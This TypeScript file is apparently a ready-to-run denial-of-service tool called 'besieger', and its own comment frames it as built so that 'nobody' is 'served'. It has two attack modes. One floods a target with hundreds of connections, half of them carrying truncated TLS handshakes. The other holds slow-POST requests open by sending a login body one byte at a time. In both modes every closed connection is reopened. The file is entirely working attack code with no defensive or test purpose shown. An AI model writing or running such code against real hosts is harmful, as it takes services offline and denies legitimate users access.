import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/**
 * Somebody who wants nobody to be served: `node besieger.ts connections|bodies HOST PORT`, until it is killed. `connections`
 * opens as many as it can as fast as it can, every other one with the beginning of a handshake; `bodies` keeps requests whose
 * body comes a byte at a time. What is closed is opened again. The first byte on stdout says that the siege stands.
 */
const [how = '', host = '', port = ''] = process.argv.slice(2);
const place = { host, port: Number(port) };

/** below the bound of descriptors that a process usually has */
const AT_ONCE = how === 'bodies' ? 150 : 800;
/** ms that a connection stays which the other side keeps */
const KEPT = 2_000;
const TRICKLES = 200;
const STANDS = 700;
/** record header of a ClientHello of 512 bytes, and its first bytes (RFC 8446, 5.1) */
const TRUNCATED_HELLO = Buffer.from('160301020001000001fc0303', 'hex');
const HEAD = [
  'POST /login HTTP/1.1',
  `Host: ${host}`,
  'Content-Type: application/x-www-form-urlencoded',
  'Content-Length: 16000',
  '',
  '',
].join('\r\n');

let opened = 0;
const besiege = (): void => {
  const socket = how === 'bodies' ? slowBody() : silent(opened++);
  socket.on('error', () => undefined);
  socket.resume();
  socket.once('close', () => setImmediate(besiege));
};

const silent = (number: number): Socket => {
  const socket = connect(place, () => {
    if (number % 2 === 1) socket.write(TRUNCATED_HELLO);
    setTimeout(() => socket.resetAndDestroy(), KEPT);
  });
  return socket;
};

const slowBody = (): Socket => {
  const socket = connectTls({ ...place, rejectUnauthorized: false }, () => {
    socket.write(HEAD);
    const trickle = setInterval(() => socket.write('a'), TRICKLES);
    socket.once('close', () => clearInterval(trickle));
  });
  return socket;
};

for (let begun = 0; begun < AT_ONCE; begun++) besiege();
setTimeout(() => process.stdout.write('.'), STANDS);
